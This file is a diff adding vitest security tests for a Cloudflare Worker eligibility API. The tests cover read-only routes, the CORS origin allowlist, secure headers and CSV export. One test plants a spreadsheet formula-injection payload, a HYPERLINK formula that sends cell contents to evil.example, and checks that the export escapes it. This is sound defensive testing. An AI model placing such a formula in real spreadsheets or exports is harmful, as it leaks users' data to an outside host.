@@ -1,0 +1,121 @@
+// What SECURITY.md promises, each checked against the Worker: nothing writes, CORS only for the
+// configured origins, secure headers on every kind of answer, and sheets exported as CSV with every
+// formula-looking cell made plain text. (Body and batch limits, problem documents without internals:
+// errors.test.ts, batch.test.ts and the fuzzer, fuzz/fuzz.test.ts.)
+
+import { env } from 'cloudflare:workers';
+import bundle from 'virtual:bundled-policies';
+import Papa from 'papaparse';
+import { describe, expect, it } from 'vitest';
+import { createApp } from '../../functions/app.js';
+import type { Problem } from '../../functions/problem.js';
+import { KOSPET_RETURN } from './claims.js';
+import { call, freshApp, postJson, readJson } from './worker.js';
+
+const READ_ROUTES = ['/healthz', '/openapi.json', '/docs', '/v1/brands', '/v1/brands/kospet', '/v1/brands/kospet/coverage?part=watch', '/v1/brands/kospet/sheets', '/v1/brands/kospet/sheets/services', '/v1/brands/kospet/sheets/services?format=csv'];
+
+describe('nothing writes', () => {
+  it('has no route but GET and POST, and POST only where a claim is decided', () => {
+    const routes = createApp().routes.filter((r) => r.method !== 'ALL');
+    expect([...new Set(routes.map((r) => r.method))].sort()).toEqual(['GET', 'POST']);
+    expect([...new Set(routes.filter((r) => r.method === 'POST').map((r) => r.path))].sort()).toEqual(['/v1/eligibility', '/v1/eligibility/batch']);
+  });
+
+  it('answers PUT, PATCH and DELETE on every route with a 404 problem', async () => {
+    for (const path of [...READ_ROUTES, '/v1/eligibility', '/v1/eligibility/batch']) {
+      for (const method of ['PUT', 'PATCH', 'DELETE']) {
+        const res = await call(path, { method, headers: { 'content-type': 'application/json' }, body: '{}' });
+        expect(res.status, `${method} ${path}`).toBe(404);
+        expect(res.headers.get('content-type')).toBe('application/problem+json');
+      }
+    }
+  });
+
+  it('only ever reads the KV namespace, whatever it is asked', async () => {
+    const calls: string[] = [];
+    // Every method of the binding recorded: a put, delete or list would show here.
+    const spy = new Proxy(env.POLICIES, {
+      get(target, prop, receiver) {
+        const value = Reflect.get(target, prop, receiver) as unknown;
+        return typeof value === 'function' ? (...args: unknown[]) => { calls.push(String(prop)); return (value as (...a: unknown[]) => unknown).apply(target, args); } : value;
+      },
+    });
+    const { request, post } = freshApp({ POLICIES: spy }, { now: () => Date.parse('2026-03-01T00:00:00Z') });
+    for (const path of READ_ROUTES) await (await request(path)).arrayBuffer();
+    await (await post('/v1/eligibility', KOSPET_RETURN)).arrayBuffer();
+    await (await post('/v1/eligibility/batch', { items: [KOSPET_RETURN] })).arrayBuffer();
+    expect(calls.length).toBeGreaterThan(0);
+    expect([...new Set(calls)]).toEqual(['get']);
+  });
+});
+
+describe('CORS only for the configured origins', () => {
+  it.each([
+    ['https://shop.example', 'https://shop.example'],
+    ['https://support.example', 'https://support.example'],
+    ['https://evil.example', null],
+    ['https://shop.example.evil.example', null],
+    ['http://shop.example', null],
+    ['https://shop.example:8443', null],
+    ['null', null],
+  ])('a request from %s gets Access-Control-Allow-Origin %s', async (origin, granted) => {
+    const res = await postJson('/v1/eligibility', KOSPET_RETURN, { origin });
+    expect(res.headers.get('access-control-allow-origin')).toBe(granted);
+    const preflight = await call('/v1/eligibility', { method: 'OPTIONS', headers: { origin, 'access-control-request-method': 'POST', 'access-control-request-headers': 'content-type' } });
+    expect(preflight.headers.get('access-control-allow-origin')).toBe(granted);
+  });
+
+  it('grants no origin when ALLOWED_ORIGINS is not set', async () => {
+    const { request } = freshApp({ ALLOWED_ORIGINS: undefined });
+    const res = await request('/v1/brands', { headers: { origin: 'https://shop.example' } });
+    expect(res.headers.get('access-control-allow-origin')).toBeNull();
+  });
+});
+
+describe('secure headers on every kind of answer', () => {
+  it.each([...READ_ROUTES, '/nope', '/v1/brands/acme'])('GET %s', async (path) => {
+    const res = await call(path);
+    expect(res.status).toBeLessThan(500);
+    expect(res.headers.get('x-content-type-options')).toBe('nosniff');
+    expect(res.headers.get('strict-transport-security')).toContain('max-age=');
+    expect(res.headers.get('referrer-policy')).toBe('no-referrer');
+    expect(res.headers.get('content-security-policy')).toMatch(/default-src 'none'.*frame-ancestors 'none'/);
+    expect(res.headers.get('x-request-id')).toBeTruthy();
+  });
+});
+
+const parseCsv = (text: string) => Papa.parse<string[]>(text.replace(/^\uFEFF/, ''), { skipEmptyLines: true, delimiter: ',' }).data;
+const FORMULA = /^[=+\-@\t\r]/;
+
+describe('GET /v1/brands/:brand/sheets/:sheet?format=csv', () => {
+  it('exports a decision table for a spreadsheet, no cell able to run as a formula', async () => {
+    const res = await call('/v1/brands/kospet/sheets/services?format=csv');
+    expect(res.status).toBe(200);
+    expect(res.headers.get('content-type')).toBe('text/csv; charset=utf-8');
+    expect(res.headers.get('content-disposition')).toBe('attachment; filename="kospet-services.csv"');
+    const rows = parseCsv(await res.text());
+    const table = bundle.policies.kospet!.tables.find((t) => t.name === 'services')!;
+    expect(rows).toHaveLength(table.rules.length + 1);
+    expect(rows[0]![0]).toBe(table.hitPolicy);
+    // S-FEEL's "-" (any) is among them: a spreadsheet shows it as typed.
+    expect(rows.flat().filter((cell) => cell.startsWith("'-")).length).toBeGreaterThan(0);
+    expect(rows.flat().filter((cell) => FORMULA.test(cell))).toEqual([]);
+  });
+
+  it('neutralizes a formula an editor typed into a label', async () => {
+    const kospet = bundle.policies.kospet!;
+    const sneaky = { ...kospet, remedies: kospet.remedies.map((r, i) => (i === 0 ? { ...r, label: '=HYPERLINK("http://evil.example/?x="&A1,"Refund")' } : r)) };
+    const { request } = freshApp({ POLICIES: { get: async () => null } }, { bundle: { kospet: sneaky } });
+    const rows = parseCsv(await (await request('/v1/brands/kospet/sheets/remedies?format=csv')).text());
+    expect(rows[1]![1]).toBe(`'=HYPERLINK("http://evil.example/?x="&A1,"Refund")`);
+    expect(rows.flat().filter((cell) => FORMULA.test(cell))).toEqual([]);
+  });
+
+  it('exports the windows sheet too, and names the formats there are', async () => {
+    expect(parseCsv(await (await call('/v1/brands/kokoni/sheets/windows?format=csv')).text())[0]).toEqual(['window', 'length', 'unit', 'counts_from', 'checked_against', 'label', 'badge']);
+    const res = await call('/v1/brands/kospet/sheets/services?format=xlsx');
+    expect(res.status).toBe(400);
+    expect((await readJson<Problem>(res)).errors).toEqual([{ path: 'query.format', message: 'expected one of "json", "csv"' }]);
+    expect((await call('/v1/brands/kospet/sheets/nope?format=csv')).status).toBe(404);
+  });
+});
